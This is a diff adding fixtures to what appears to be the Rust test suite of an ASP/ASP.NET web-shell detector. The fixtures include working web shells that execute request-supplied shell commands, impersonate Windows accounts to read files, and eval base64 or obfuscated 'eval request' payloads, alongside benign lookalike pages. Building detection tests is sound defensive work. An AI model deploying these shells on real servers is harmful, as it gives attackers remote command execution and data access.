@@ -201,6 +201,70 @@ void Page_Load(object s, EventArgs e) {
 [DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr b, IntPtr p, int f, ref IntPtr i);
 </script>"#,
     ),
+    // What a service's methods are given is what clients send.
+    (
+        "service.asmx",
+        r#"<%@ WebService Language="C#" Class="S" %>
+public class S : System.Web.Services.WebService {
+ [WebMethod(Description = "status", EnableSession = true)]
+ public string Ask(string tool, string line) { var i = new ProcessStartInfo(tool, line); i.UseShellExecute = false; return Process.Start(i).StandardOutput.ReadToEnd(); }
+}"#,
+    ),
+    (
+        "service-vb.asmx",
+        "<%@ WebService Language=\"VB\" Class=\"S\" %>\nPublic Class S\n<WebMethod()> _\nPublic Function Ask(ByVal line As String) As String\nShell(\"cmd.exe /c \" & line)\nReturn \"ok\"\nEnd Function\nEnd Class",
+    ),
+    // The command stands in the holes of a text.
+    (
+        "holes.cshtml",
+        r#"@using System.Diagnostics
+@{ var q = Request["q"]; var p = Process.Start(new ProcessStartInfo("/bin/bash", $"-c \"{q}\"") { RedirectStandardOutput = true }); }
+<pre>@p.StandardOutput.ReadToEnd()</pre>"#,
+    ),
+    // The method that starts programs is taken by its name.
+    (
+        "by-name.aspx",
+        r#"<%@ Page Language="C#" %><% var kind = Type.GetType("System.Diagnostics.Process, System"); var go = kind.GetMethod("Start", new[] { typeof(string) }); go.Invoke(null, new object[] { Request["run"] }); %>"#,
+    ),
+    // The page takes on an account that the request names and shows what that may see.
+    (
+        "account.aspx",
+        r#"<%@ Page Language="C#" %><script runat="server">
+[DllImport("advapi32.dll")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);
+void Go(object s, EventArgs e) { IntPtr h = IntPtr.Zero; LogonUser(who.Text, ".", secret.Text, 2, 0, ref h);
+ using (WindowsIdentity.Impersonate(h)) { foreach (string n in Directory.GetDirectories(where.Text)) Response.Write(n); Response.Write(File.ReadAllText(where.Text)); } }
+</script><form runat="server"><asp:TextBox id="who" runat="server"/><asp:TextBox id="secret" runat="server"/><asp:TextBox id="where" runat="server"/></form>"#,
+    ),
+    // A remark with another language stands before the page's own.
+    (
+        "remark.aspx",
+        r#"<!--<%@ Page Language="C#" %>--><%@ Page Language="Jscript"%><% eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["q"])),"unsafe"); %>"#,
+    ),
+    // The code stands in pieces: a list of letters that a loop puts together, a text that is split and joined.
+    (
+        "letters.asp",
+        "<%\nlist = Array(102, 119, 98, 109, 33, 115, 102, 114, 118, 102, 116, 117, 41, 50, 42)\nwhole = \"\"\nFor n = 0 To UBound(list)\nwhole = whole & Chr(list(n) - 1)\nNext\nExecute whole\n%>",
+    ),
+    (
+        "hex.asp",
+        "<%\nlong = \"6576616C2072657175657374283129\"\nFor n = 1 To Len(long) Step 2\nwhole = whole & Chr(CLng(\"&H\" & Mid(long, n, 2)))\nNext\nExecute whole\n%>",
+    ),
+    (
+        "words.asp",
+        "<%\nFor Each part In Split(\"101,118,97,108,32,114,101,113,117,101,115,116,40,49,41\", \",\")\nwhole = whole & Chr(part)\nNext\nExecuteGlobal whole\n%>",
+    ),
+    (
+        "marks.asp",
+        "<%\nparts = Split(\"e.v.a.l|request\", \"|\")\nExecute Join(Split(parts(0), \".\"), \"\") & \" \" & parts(1) & \"(9)\"\n%>",
+    ),
+    (
+        "backwards.asp",
+        "<%@ language=JScript %><% var t = \")1(metI.tseuqeR(lave\".split(\"\").reverse().join(\"\"); eval(t + \"\\x29\"); %>",
+    ),
+    (
+        "shifted.aspx",
+        "<%@ Page Language=\"JScript\" %><% var l = [102, 119, 98, 109, 41, 83, 102, 114, 118, 102, 116, 117, 92, 50, 94, 42], t = \"\"; for (var i = 0; i < l.length; i++) { t += String.fromCharCode(l[i] - 1); } eval(t, \"unsafe\"); %>",
+    ),
 ];
 
 /// Pages that look alike.
@@ -280,6 +344,56 @@ public class H : IHttpHandler {
         "included.asp",
         "<!--#include file=\"header.asp\"-->\n<!--#include file=\"notice.txt\"-->\n<p>Our opening hours are on the board. Our opening hours are on the board. Our opening hours are on the board. Our opening hours are on the board.</p>",
     ),
+    // Data binding is called as evaluation is.
+    (
+        "binding.ascx",
+        r#"<%@ Control Language="C#" %><script runat="server">string Column() { return Request["column"]; }</script>
+<asp:Repeater id="r" runat="server"><ItemTemplate><%# Eval(Request["column"]) %> <%# Eval(Column(), "{0:d}") %></ItemTemplate></asp:Repeater>"#,
+    ),
+    // What is written goes to another server.
+    (
+        "relay.ashx",
+        r#"<%@ WebHandler Language="C#" Class="H" %>
+public class H : IHttpHandler { public void ProcessRequest(HttpContext c) {
+ var r = WebRequest.Create("http://inside.example/api?" + c.Request["q"]); r.Method = "POST";
+ using (var w = new StreamWriter(r.GetRequestStream())) { w.Write(c.Request["body"]); } } }"#,
+    ),
+    // A framework includes its own files: it lays long patterns over what it reads, and evaluates that.
+    (
+        "framework.asp",
+        "<%\nfunction swap(t, pattern, by)\nset x=new regexp\nx.pattern=pattern\nswap=x.replace(t,by)\nend function\nsub bring(path)\ndim t\nt=readout(path)\nt=swap(t,\"<!--#include +?file *?= *?(\\S+) *?-->\",\"$1\")\nexecuteglobal \"dim \" & chr(34) & t\nend sub\n%>",
+    ),
+    // The connection's form is laid down by the page of an administrator.
+    (
+        "report.asp",
+        "<%\nset c=server.createobject(\"adodb.connection\")\nc.open \"Provider=SQLOLEDB;Data Source=\" & request(\"server\") & \";Integrated Security=SSPI\"\nset r=c.execute(request(\"statement\"))\nresponse.write r(0)\n%>",
+    ),
+    // A service keeps files in a folder of its own.
+    (
+        "files.asmx",
+        r#"<%@ WebService Language="C#" Class="S" %>
+public class S : System.Web.Services.WebService {
+ [WebMethod] public string Keep(byte[] bytes, string name) { File.WriteAllBytes(Server.MapPath("~/Scans/") + name, bytes); return "ok"; }
+ [WebMethod] public string Note(string text) { File.WriteAllText(ConfigurationManager.AppSettings["notes"] + DateTime.Now.Ticks + ".txt", text); return $"{text.Length:N0} {{kept}}"; }
+}"#,
+    ),
+    // A page to log in with an account of the domain.
+    (
+        "login.aspx",
+        r#"<%@ Page Language="C#" %><script runat="server">
+[DllImport("advapi32.dll")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);
+void Go(object s, EventArgs e) { IntPtr h = IntPtr.Zero; if (LogonUser(who.Text, "OFFICE", secret.Text, 2, 0, ref h) != 0) FormsAuthentication.RedirectFromLoginPage(who.Text, false); }
+</script><form runat="server"><asp:TextBox id="who" runat="server"/><asp:TextBox id="secret" runat="server"/></form>"#,
+    ),
+    // Lists that loops put together are no code, and none is evaluated here.
+    (
+        "menu.asp",
+        "<%\nnames = Array(\"home\", \"news\", \"contact\")\nFor n = 0 To UBound(names)\nbar = bar & \"<a href='\" & names(n) & \".asp'>\" & UCase(names(n)) & \"</a>\"\nNext\nresponse.write bar\nFor Each k In Split(request(\"keys\"), \",\")\nresponse.write Server.HTMLEncode(k)\nNext\n%>",
+    ),
+    (
+        "constants.asp",
+        "<%\nFor Each pair In Split(\"limit=20,width=600\", \",\")\nExecute \"const \" & pair\nNext\n%>",
+    ),
 ];
 
 #[test]
@@ -344,5 +458,20 @@ fn elements_without_end_cost_no_more_than_their_bytes() {
     for unit in ["<object runat=server ", "<script ", "#@~^AAAAAA==", "<!--#include "] {
         page(unit, 400_000);
     }
+    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
+}
+
+#[test]
+fn loops_over_long_lists_cost_no_more_than_is_set_aside() {
+    let started = std::time::Instant::now();
+    let list = "1,".repeat(4_000);
+    let page = format!(
+        "<%\na=Array({list}1)\nFor i = 0 To UBound(a)\n{}\nNext\nexecute s\n%>",
+        "s = s & Chr(a(i)+1-1*2)\n".repeat(4_000)
+    );
+    read(page.as_bytes(), "x.asp");
+    let page =
+        format!("<% for (var i = 0; i < 4000; i++) {{ {} }} %>", "s += a.split('')[i];".repeat(20_000));
+    read(page.as_bytes(), "x.asp");
     assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
 }
